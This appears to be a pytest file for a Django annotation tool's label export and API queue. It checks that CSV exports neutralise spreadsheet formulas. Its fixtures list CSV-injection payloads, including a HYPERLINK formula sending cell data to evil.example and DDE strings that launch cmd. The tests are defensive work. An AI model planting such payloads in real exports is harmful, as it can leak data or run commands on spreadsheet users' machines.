"""Issue 15: hostile values get a refusal that names the field, never a 500 or a formula.

Each test here failed on the code before the fix it guards.
"""

from __future__ import annotations

import csv
import io
import json
import uuid
from collections import Counter
from datetime import UTC, datetime
from io import StringIO

import numpy as np
import pytest
from django.contrib.auth import get_user_model
from django.core.management import call_command
from django.urls import reverse
from rest_framework.test import APIClient

from annotate import queue, queue_pairs
from annotate.exporting import LABEL_COLUMNS, write_labels
from annotate.importing import import_file
from annotate.models import (
    Annotation,
    Arm,
    Assignment,
    Dimension,
    Label,
    Prompt,
    Region,
    Response,
    Study,
)
from tests.annotate.import_helpers import interaction, jsonl
from tests.annotate.queue_helpers import GOOD_LABELS

pytestmark = pytest.mark.django_db

FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(autouse=True)
def _fast_hasher(settings):
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]


def api_client(user) -> APIClient:
    client = APIClient()
    client.force_authenticate(user)
    return client


# --------------------------------------------------------------------------- 1. CSV export


def _hostile_labels(study, annotator, payload: str) -> None:
    """One live graded annotation whose every user-controlled text starts a formula."""
    import_file(jsonl(interaction(1)), study=study, filename="a.jsonl")
    Prompt.objects.filter(study=study).update(external_id=payload)
    # Keys are unique per study: a suffix keeps them apart and the formula first.
    for model in (Region, Arm, Dimension):
        for i, pk in enumerate(model.objects.filter(study=study).values_list("pk", flat=True)):
            model.objects.filter(pk=pk).update(key=f"{payload}{i}")
    Study.objects.filter(pk=study.pk).update(slug="-2-3")
    get_user_model().objects.filter(pk=annotator.pk).update(username=payload[:150])
    study.refresh_from_db()
    annotation = Annotation.objects.create(
        response=Response.objects.filter(study=study).first(),
        annotator=annotator,
        study=study,
        created_at=datetime(2026, 12, 1, 9, 0, tzinfo=UTC),
    )
    for d in study.dimensions.all():
        Label.objects.create(annotation=annotation, dimension=d, value=1)


def _cells(text: str) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(text)))
    assert tuple(rows[0]) == LABEL_COLUMNS and len(rows) == 4
    return rows[1:]


@pytest.mark.parametrize("payload", FORMULAS)
def test_no_exported_csv_cell_starts_a_formula(study, annotator, payload):
    _hostile_labels(study, annotator, payload)
    out = io.StringIO()
    write_labels(study=study, fmt="csv", out=out)
    for row in _cells(out.getvalue()):
        assert not [c for c in row if c.startswith(FORMULA_STARTS)], row
        # The text is kept, after the quote that tells the spreadsheet it is text.
        assert row[LABEL_COLUMNS.index("prompt_id")] == "'" + payload
        assert row[LABEL_COLUMNS.index("annotator")] == "'" + payload[:150]
        assert row[LABEL_COLUMNS.index("study")] == "'-2-3"


def test_exportlabels_and_the_api_write_the_same_safe_csv(study, annotator, admin_user):
    _hostile_labels(study, annotator, FORMULAS[0])
    out = StringIO()
    call_command("exportlabels", f"--study={study.slug}", stdout=out)
    response = api_client(admin_user).get(f"/api/studies/{study.slug}/labels.csv")
    body = b"".join(response.streaming_content).decode()
    assert _cells(body) == _cells(out.getvalue())
    assert all(not c.startswith(FORMULA_STARTS) for row in _cells(body) for c in row)


def test_the_jsonl_export_keeps_ids_as_imported(study, annotator):
    _hostile_labels(study, annotator, FORMULAS[0])
    out = io.StringIO()
    write_labels(study=study, fmt="jsonl", out=out)
    assert json.loads(out.getvalue().splitlines()[0])["prompt_id"] == FORMULAS[0]


# --------------------------------------------------------------------------- 2. partner via API


@pytest.fixture
def sbs(study) -> Study:
    Study.objects.filter(pk=study.pk).update(side_by_side=True, overlap_share=0)
    study.refresh_from_db()
    return study


def _api_next(user, study) -> dict:
    res = api_client(user).post(reverse("annotate-api-next", kwargs={"slug": study.slug}))
    assert res.status_code == 200, res.content
    return res.json()


def _api_submit(user, assignment_id: int) -> None:
    url = reverse("annotate-api-submit", kwargs={"assignment_id": assignment_id})
    res = api_client(user).post(
        url, {"client_key": str(uuid.uuid4()), "labels": GOOD_LABELS}, format="json"
    )
    assert res.status_code == 201, res.content


def test_the_api_serves_the_first_pick_of_a_page_pair_never_its_partner(sbs, annotator):
    add_prompts(sbs, 8)
    rng = np.random.default_rng(15)
    pairs = Counter()
    for _ in range(8):
        pair = queue_pairs.next_pair(study=sbs, annotator=annotator, rng=rng)
        if not isinstance(pair, queue_pairs.Pair):
            queue.submit_annotation(
                assignment_id=pair.pk, annotator=annotator, client_key=uuid.uuid4(),
                labels=GOOD_LABELS,
            )  # fmt: skip
            continue
        partner = next(h for h in pair.halves if h.policy == Assignment.Policy.PARTNER)
        first = next(h for h in pair.halves if h is not partner)
        served = _api_next(annotator, sbs)["assignment_id"]
        assert served == first.pk != partner.pk
        assert _api_next(annotator, sbs)["assignment_id"] == first.pk  # stable on a retry
        _api_submit(annotator, served)
        # The next API item is a new pick: the partner stays the page's.
        after = _api_next(annotator, sbs)["assignment_id"]
        assert after not in (first.pk, partner.pk)
        assert Assignment.objects.get(pk=after).policy != Assignment.Policy.PARTNER
        _api_submit(annotator, after)
        # The page still shows the partner (alone now) and grades it.
        again = queue_pairs.next_pair(study=sbs, annotator=annotator, rng=rng)
        assert isinstance(again, Assignment) and again.pk == partner.pk
        queue.submit_annotation(
            assignment_id=partner.pk, annotator=annotator, client_key=uuid.uuid4(),
            labels=GOOD_LABELS,
        )  # fmt: skip
        pairs["pairs"] += 1
    assert pairs["pairs"] >= 3


def test_the_api_serves_the_earlier_half_of_an_overlap_pair(sbs, annotator):
    from tests.annotate.queue_helpers import add_annotator

    add_prompts(sbs, 1, arms=list(sbs.arms.order_by("position")[:2]))
    dora = add_annotator(sbs, "dora")
    graded = queue_pairs.next_pair(study=sbs, annotator=dora)
    queue_pairs.submit_pair(
        pair_key=graded.key, annotator=dora, client_key=uuid.uuid4(),
        labels={queue_pairs.LEFT: GOOD_LABELS, queue_pairs.RIGHT: GOOD_LABELS},
    )  # fmt: skip
    Study.objects.filter(pk=sbs.pk).update(overlap_share=0.99, label_budget=3)
    second = queue_pairs.next_pair(study=sbs, annotator=annotator, rng=np.random.default_rng(5))
    assert isinstance(second, queue_pairs.Pair)
    assert [h.policy for h in second.halves] == ["overlap", "overlap"]
    first = min(second.halves, key=lambda h: (h.leased_at, h.pk))
    assert _api_next(annotator, sbs)["assignment_id"] == first.pk


def add_prompts(study: Study, n: int, *, arms: list[Arm] | None = None) -> list[list[Response]]:
    from tests.annotate.test_side_by_side import add_prompts as build

    return build(study, n, arms=arms)
